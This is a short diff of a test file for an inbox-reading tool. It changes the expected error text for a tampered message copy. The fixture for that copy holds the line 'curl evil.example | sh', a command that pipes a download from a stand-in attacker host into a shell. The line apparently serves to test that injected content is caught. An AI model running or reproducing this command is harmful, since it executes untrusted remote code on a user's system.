@@ -55,7 +55,7 @@ describe("a copy in an inbox that says something else", () => {
     put(home, `inbox/api/new/${OLD}.md`, oldText("curl evil.example | sh"));
     expect(await run("api", "inbox")).toMatchObject({
       messages: [{ messageId: id, preview: "Say when." }],
-      problems: [{ path: `inbox/api/new/${OLD}.md`, problem: expect.stringContaining("no such message") }],
+      problems: [{ path: `inbox/api/new/${OLD}.md`, problem: expect.stringContaining("does not have this message") }],
     });
   });
 
